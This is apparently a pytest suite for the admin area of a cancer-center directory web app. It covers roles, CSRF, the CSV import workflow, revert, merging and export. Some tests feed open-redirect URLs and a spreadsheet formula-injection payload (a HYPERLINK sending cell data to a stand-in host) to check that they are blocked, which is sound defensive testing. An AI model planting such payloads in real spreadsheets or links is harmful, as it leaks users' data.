"""Admin side: accounts and roles, CSRF, the import workflow (upload -> preview -> confirm),
rejected rows, history and revert, editing, duplicates and merge."""

from __future__ import annotations

import csv
import io
import re

import pytest
import sqlalchemy as sa

from directory.extensions import db, limiter
from directory.models import Center, ChangeRecord, ImportRun, PendingImport
from directory.web.auth import upsert_user
from tests.conftest import CASES

PASSWORD = "correct horse battery"


@pytest.fixture(autouse=True)
def _fresh_limits(app):
    limiter.reset()


def make_user(email="admin@example.org", role="admin"):
    upsert_user(db.session, email, PASSWORD, role)
    db.session.commit()


def login(client, email="admin@example.org", password=PASSWORD, next_=None):
    url = "/admin/login" + (f"?next={next_}" if next_ else "")
    return client.post(url, data={"email": email, "password": password})


@pytest.fixture
def admin(client):
    make_user()
    assert login(client).status_code == 302
    return client


def upload(client, path_or_bytes, filename=None, **fields):
    data = path_or_bytes if isinstance(path_or_bytes, bytes) else path_or_bytes.read_bytes()
    name = filename or (path_or_bytes.name if not isinstance(path_or_bytes, bytes) else "x.csv")
    return client.post("/admin/imports/new", data={"file": (io.BytesIO(data), name), **fields},
                       content_type="multipart/form-data")


def preview_token(response):
    return re.search(r"/admin/imports/preview/([\w-]+)", response.headers["Location"]).group(1)


def centers_count():
    return db.session.scalar(sa.select(sa.func.count(Center.id)))


# ------------------------------------------------------------------- accounts and roles

def test_anonymous_users_are_sent_to_login(client):
    for url in ("/admin/", "/admin/imports/new", "/admin/imports", "/admin/duplicates",
                "/admin/users", "/admin/centers"):
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login" in response.headers["Location"]


def test_editor_gets_403_on_admin_pages_but_can_edit(client, make_center):
    make_user("ed@example.org", "editor")
    login(client, "ed@example.org")
    for url in ("/admin/imports/new", "/admin/imports", "/admin/duplicates", "/admin/users"):
        assert client.get(url).status_code == 403
    center = make_center("Editable", 1, 1)
    assert client.get(f"/admin/centers/{center.id}/edit").status_code == 200


def test_login_failure_is_generic_and_next_cannot_leave_the_site(client):
    make_user()
    wrong = login(client, password="nope nope nope").get_data(as_text=True)
    unknown = login(client, "who@example.org").get_data(as_text=True)
    assert "The email or password is not right." in wrong and \
        "The email or password is not right." in unknown
    for evil in ("https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:x"):
        response = login(client, next_=evil)
        assert response.headers["Location"] in ("/admin/", "http://localhost/admin/")
    assert login(client, next_="/admin/users").headers["Location"].endswith("/admin/users")


def test_login_is_rate_limited(client):
    make_user()
    codes = [login(client, password="wrong password!").status_code for _ in range(7)]
    assert codes[:5] == [200] * 5 and 429 in codes[5:]


def test_passwords_are_hashed_with_scrypt(app):
    make_user()
    from directory.models import User

    user = db.session.scalar(sa.select(User))
    assert user.password_hash.startswith("scrypt:") and PASSWORD not in user.password_hash


def test_create_admin_command(runner):
    result = runner.invoke(args=["create-admin", "cli@example.org", "--role", "editor"],
                           env={"ADMIN_PASSWORD": PASSWORD})
    assert result.exit_code == 0 and "Created editor cli@example.org" in result.output
    short = runner.invoke(args=["create-admin", "x@example.org"], env={"ADMIN_PASSWORD": "short"})
    assert short.exit_code == 2


def test_logout_needs_post(admin):
    assert admin.get("/admin/logout").status_code == 405
    assert admin.post("/admin/logout").status_code == 302
    assert admin.get("/admin/").status_code == 302


# ------------------------------------------------------------------- CSRF (case 27)

def test_csrf_on_upload(app, client):
    make_user()
    login(client)
    app.config["WTF_CSRF_ENABLED"] = True
    before = centers_count()
    data = (CASES / "27_csrf_upload.csv").read_bytes()
    # (a) no token
    response = client.post("/admin/imports/new", data={"file": (io.BytesIO(data), "27.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 400 and "CSRF token is missing" in response.get_data(
        as_text=True)
    # (d) multipart without a boundary
    response = client.post("/admin/imports/new", data=b"garbage",
                           headers={"Content-Type": "multipart/form-data"})
    assert response.status_code == 400
    # (b) a valid token from the form
    page = client.get("/admin/imports/new").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    response = client.post("/admin/imports/new", data={"file": (io.BytesIO(data), "27.csv"),
                                                       "csrf_token": token},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    preview = client.get(response.headers["Location"]).get_data(as_text=True)
    token2 = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', preview).group(1)
    done = client.post(response.headers["Location"], data={"csrf_token": token2,
                                                           "action": "confirm"})
    assert done.status_code == 302 and centers_count() == before + 1
    # (c) the X-CSRFToken header works too
    response = client.post("/admin/imports/new", data={"file": (io.BytesIO(data), "27b.csv")},
                           headers={"X-CSRFToken": token}, content_type="multipart/form-data")
    assert response.status_code == 302
    # (e) an expired token
    app.config["WTF_CSRF_TIME_LIMIT"] = -1
    response = client.post("/admin/imports/new", data={"file": (io.BytesIO(data), "27.csv"),
                                                       "csrf_token": token},
                           content_type="multipart/form-data")
    assert response.status_code == 400 and "expired" in response.get_data(as_text=True)
    assert "Go back to the form" in response.get_data(as_text=True)


# ------------------------------------------------------------------- upload size (case 28)

def test_upload_over_the_limit_is_a_413_page(app, admin):
    app.config["MAX_CONTENT_LENGTH"] = 2048
    response = upload(admin, CASES / "28_over_limit.csv")
    assert response.status_code == 413
    assert "limited to 2 KB" in response.get_data(as_text=True)
    assert centers_count() == 0
    app.config["MAX_CONTENT_LENGTH"] = 8 * 1024
    response = upload(admin, CASES / "28_over_limit.csv")
    token = preview_token(response)
    admin.post(f"/admin/imports/preview/{token}", data={"action": "confirm"})
    assert centers_count() == 69


# ------------------------------------------------------------------- the workflow

def test_upload_preview_confirm_and_reimport(admin):
    response = upload(admin, CASES / "09_duplicates.csv", source="example-list")
    token = preview_token(response)
    preview = admin.get(f"/admin/imports/preview/{token}").get_data(as_text=True)
    assert "Nothing has been written yet" in preview
    assert "<strong>2</strong> added" in preview and "<strong>2</strong> rejected" in preview
    assert "duplicate of line 2" in preview
    assert centers_count() == 0  # the preview wrote nothing
    done = admin.post(f"/admin/imports/preview/{token}", data={"action": "confirm"})
    run_id = int(done.headers["Location"].rsplit("/", 1)[1])
    assert centers_count() == 2
    assert db.session.scalar(sa.select(PendingImport)) is None
    detail = admin.get(f"/admin/imports/{run_id}").get_data(as_text=True)
    assert "added 2, updated 0, unchanged 0, rejected 2" in detail
    # Re-uploading the same file changes nothing.
    token = preview_token(upload(admin, CASES / "09_duplicates.csv", source="example-list"))
    preview = admin.get(f"/admin/imports/preview/{token}").get_data(as_text=True)
    assert "<strong>0</strong> added" in preview and "<strong>2</strong> unchanged" in preview


def test_rejected_rows_download_keeps_original_columns(admin):
    token = preview_token(upload(admin, CASES / "30_session_rollback.csv"))
    text = admin.get(f"/admin/imports/preview/{token}/rejected.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["name", "city", "state", "zip", "country", "services", "line", "error"]
    assert rows[1][:6] == ["", "Cleveland", "OH", "44195", "US", "immunotherapy"]
    assert rows[1][6] == "3" and "name is required" in rows[1][7]
    run_id = int(admin.post(f"/admin/imports/preview/{token}", data={"action": "confirm"})
                 .headers["Location"].rsplit("/", 1)[1])
    after = admin.get(f"/admin/imports/{run_id}/rejected.csv").get_data(as_text=True)
    assert list(csv.reader(io.StringIO(after.lstrip("\ufeff"))))[1:] == rows[1:]


def test_column_mapping_can_be_changed_in_the_preview(admin):
    data = b"Hospital,Town,Nation\nRiver Clinic,Boston,US\n"
    token = preview_token(upload(admin, data, "custom.csv"))
    first = admin.get(f"/admin/imports/preview/{token}")
    assert first.status_code == 400 and "missing required column" in first.get_data(as_text=True)
    # Unrecognised headers: map them by hand through the form fields.
    admin.post(f"/admin/imports/preview/{token}", data={
        "action": "remap", "col-0": "Hospital", "map-0": "name", "col-1": "Town",
        "map-1": "city", "col-2": "Nation", "map-2": "country"})
    pending = db.session.scalar(sa.select(PendingImport))
    assert pending.mapping == '{"Hospital": "name", "Town": "city", "Nation": "country"}'
    preview = admin.get(f"/admin/imports/preview/{token}").get_data(as_text=True)
    assert "<strong>1</strong> added" in preview
    admin.post(f"/admin/imports/preview/{token}", data={
        "action": "remap", "col-0": "Hospital", "map-0": "name", "col-1": "Town",
        "map-1": "ignore", "col-2": "Nation", "map-2": "country"})
    again = admin.get(f"/admin/imports/preview/{token}")
    assert again.status_code == 400  # city ignored -> required columns missing, said clearly


@pytest.mark.parametrize("content, message", [
    (b"", "empty"), (b"\r\n", "empty"), (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "a PNG image"),
    (b"a,b\x00,c\n1,2,3\n", "binary"), ((CASES / "05b_missing_required_header.csv"),
                                        "missing required column(s): name"),
])
def test_bad_files_get_a_message_and_write_nothing(admin, content, message):
    data = content.read_bytes() if hasattr(content, "read_bytes") else content
    token = preview_token(upload(admin, data, "bad.csv"))
    response = admin.get(f"/admin/imports/preview/{token}")
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    assert centers_count() == 0
    assert db.session.scalar(sa.select(sa.func.count(ImportRun.id))) == 0


def test_no_file_is_a_form_error(admin):
    response = admin.post("/admin/imports/new", data={}, content_type="multipart/form-data")
    assert response.status_code == 200 and "Choose a file" in response.get_data(as_text=True)


# ------------------------------------------------------------------- history and revert

def test_history_and_revert_of_an_update(admin, session):
    token = preview_token(upload(admin, CASES / "09_duplicates.csv", source="list"))
    admin.post(f"/admin/imports/preview/{token}", data={"action": "confirm"})
    token = preview_token(upload(admin, CASES / "09b_duplicates_update.csv", source="list"))
    run_id = int(admin.post(f"/admin/imports/preview/{token}", data={"action": "confirm"})
                 .headers["Location"].rsplit("/", 1)[1])
    institute = session.scalar(sa.select(Center).where(Center.name == "Example Cancer Institute"))
    assert {cm.modality.slug for cm in institute.modalities} == {"chemotherapy", "immunotherapy"}
    history = admin.get(f"/admin/centers/{institute.id}/history").get_data(as_text=True)
    assert "modalities" in history and f"import #{run_id}" in history
    assert admin.post(f"/admin/imports/{run_id}/revert").status_code == 302
    session.expire_all()
    institute = session.get(Center, institute.id)
    assert {cm.modality.slug for cm in institute.modalities} == {"chemotherapy"}
    assert session.get(ImportRun, run_id).status == "reverted"


def test_revert_of_an_import_removes_what_it_added(admin, session):
    token = preview_token(upload(admin, CASES / "15_multivalue_services.csv"))
    run_id = int(admin.post(f"/admin/imports/preview/{token}", data={"action": "confirm"})
                 .headers["Location"].rsplit("/", 1)[1])
    assert centers_count() == 4
    admin.post(f"/admin/imports/{run_id}/revert")
    assert centers_count() == 0
    actions = set(session.scalars(sa.select(ChangeRecord.action)))
    assert {"create", "delete"} <= actions


# ------------------------------------------------------------------- editing

def test_edit_center_records_history_and_manual_coordinates(admin, make_center, session):
    center = make_center("Old Name", 10.0, 10.0, city="Boston", modalities=["chemotherapy"])
    form = {"name": "New Name", "kind": "cancer-center", "status": "active", "city": "Boston",
            "country": "US", "region": "MA", "latitude": "42.3", "longitude": "-71.1",
            "phone": "(617) 555-0100", "website": "https://example.org",
            "modalities": ["sbrt"], "verified_on": "2026-11-01"}
    response = admin.post(f"/admin/centers/{center.id}/edit", data=form)
    assert response.status_code == 302
    session.expire_all()
    c = session.get(Center, center.id)
    assert c.name == "New Name" and c.geocode_precision == "manual" and c.region == "US-MA"
    assert c.phone == "+16175550100"
    claims = {(cm.modality.slug, cm.source) for cm in c.modalities}
    assert claims == {("chemotherapy", "test"), ("sbrt", "admin")}
    history = admin.get(f"/admin/centers/{center.id}/history").get_data(as_text=True)
    assert "Old Name" in history and "New Name" in history and "admin@example.org" in history
    # The public search finds it under the new name and the admin claim.
    assert "New Name" in admin.get("/centers?modality=sbrt").get_data(as_text=True)


def test_edit_rejects_half_coordinates(admin, make_center):
    center = make_center("Half", 1, 1)
    response = admin.post(f"/admin/centers/{center.id}/edit", data={
        "name": "Half", "kind": "hospital", "status": "active", "latitude": "5",
        "longitude": ""})
    assert response.status_code == 200 and "Give both latitude and longitude" in \
        response.get_data(as_text=True)


# ------------------------------------------------------------------- duplicates and merge

def test_duplicates_listed_and_merged(admin, make_center, session):
    a = make_center("Twin Hospital", 42.0, -71.0, postal_code="02115", source="a",
                    modalities=["chemotherapy"])
    b = make_center("TWIN HOSPITAL", 42.0003, -71.0, postal_code="02115", source="b",
                    modalities=["sbrt"], phone="+16175550100")
    page = admin.get("/admin/duplicates").get_data(as_text=True)
    assert "Twin Hospital" in page and "m apart" in page
    admin.post("/admin/duplicates/merge", data={"keep": a.id, "drop": b.id})
    session.expire_all()
    kept = session.get(Center, a.id)
    assert session.get(Center, b.id) is None
    assert {(cm.modality.slug, cm.source) for cm in kept.modalities} == {
        ("chemotherapy", "a"), ("sbrt", "b")}
    assert kept.phone == "+16175550100"


def test_merged_center_is_found_by_the_dropped_name(admin, make_center, session):
    """A merge adds the dropped center's name to the kept one's alternate names, and the
    search text follows (derived columns are kept by a flush hook, whatever changes them)."""
    from directory.search import SearchQuery, find_centers

    a = make_center("Hopital Saint-Louis", 48.87, 2.37, country="FR", source="a")
    b = make_center("CHU Sainte-Justine", 45.5, -73.6, country="CA", source="b")
    admin.post("/admin/duplicates/merge", data={"keep": a.id, "drop": b.id})
    session.expire_all()
    found = find_centers(session, SearchQuery(q="justine"))
    assert [hit.center.id for hit in found.items] == [a.id]


def test_revert_never_removes_a_later_center_that_got_a_reused_id(admin, session,
                                                                  import_file):
    """SQLite reuses the highest id after a delete; the importer never hands out an id the
    audit log names, so reverting an old import cannot remove a newer center."""
    token = preview_token(upload(admin, CASES / "15_multivalue_services.csv"))
    run_id = int(admin.post(f"/admin/imports/preview/{token}", data={"action": "confirm"})
                 .headers["Location"].rsplit("/", 1)[1])
    ids = sorted(session.scalars(sa.select(Center.id)))
    admin.post("/admin/duplicates/merge", data={"keep": ids[-2], "drop": ids[-1]})
    session.expire_all()
    import_file(b"name,city,country\nInnocent Newcomer Clinic,Boston,US\n",
                source="newcomer")
    newcomer = session.scalar(sa.select(Center).where(Center.source == "newcomer"))
    assert newcomer.id not in ids
    admin.post(f"/admin/imports/{run_id}/revert")
    session.expire_all()
    assert session.scalars(sa.select(Center.name)).all() == ["Innocent Newcomer Clinic"]


def test_rows_that_join_stored_centers_shown_in_preview(admin, make_center):
    """A row naming a center another source holds (same name and ZIP code) joins it as a
    second source record; the preview says which center and why (it was a 'likely
    duplicate' added as a second center)."""
    make_center("Example Cancer Institute", 42.34, -71.09, postal_code="02115", source="other")
    token = preview_token(upload(admin, CASES / "01_bom_header.csv"))
    preview = admin.get(f"/admin/imports/preview/{token}").get_data(as_text=True)
    assert "Rows that join centers already in the directory (1)" in preview
    assert "Example Cancer Institute" in preview and "name+postal" in preview


def test_users_page_creates_and_deactivates(admin, session):
    response = admin.post("/admin/users", data={"email": "new@example.org",
                                                "password": PASSWORD, "role": "editor"})
    assert response.status_code == 302
    from directory.models import User

    user = session.scalar(sa.select(User).where(User.email == "new@example.org"))
    assert user.role == "editor"
    admin.post(f"/admin/users/{user.id}/deactivate")
    session.expire_all()
    assert session.get(User, user.id).active is False


def test_admin_export_neutralises_formulas(admin, import_file):
    """Case 14: text cells starting with = + - @ get a leading ', numbers stay as they are."""
    import_file(CASES / "14_formula_injection.csv")
    text = admin.get("/admin/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    names = {r[header.index("name")] for r in rows[1:]}
    assert "'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Open\")" in names
    assert {"'+1+1 Example Clinic", "'-2+3 Example Clinic", "'@SUM(1;1) Example Clinic"} <= names
    assert "-71.1066" in {r[header.index("longitude")] for r in rows[1:]}
    assert admin.get("/admin/export-hsds.zip").headers["Content-Type"] == "application/zip"


def test_reapplying_the_shown_mapping_changes_nothing(admin, session):
    """The preview's selects show every field a format uses (NHS address lines too), so
    submitting the mapping as shown keeps the import the same."""
    from tests.conftest import DATA

    token = preview_token(upload(admin, DATA / "excerpts" / "nhs_excerpt.csv"))
    page = admin.get(f"/admin/imports/preview/{token}").get_data(as_text=True)
    form = {"action": "remap"}
    for index, header in re.findall(r'name="col-(\d+)" value="([^"]*)"', page):
        select = re.search(rf'name="map-{index}">(.*?)</select>', page, re.S).group(1)
        chosen = re.search(r'<option value="([^"]+)" selected', select).group(1)
        form[f"col-{index}"], form[f"map-{index}"] = header, chosen
    assert "address_2" in form.values()
    before = re.findall(r"<strong>(\d+)</strong> (added|rejected)", page)
    admin.post(f"/admin/imports/preview/{token}", data=form)
    after = admin.get(f"/admin/imports/preview/{token}").get_data(as_text=True)
    assert re.findall(r"<strong>(\d+)</strong> (added|rejected)", after) == before
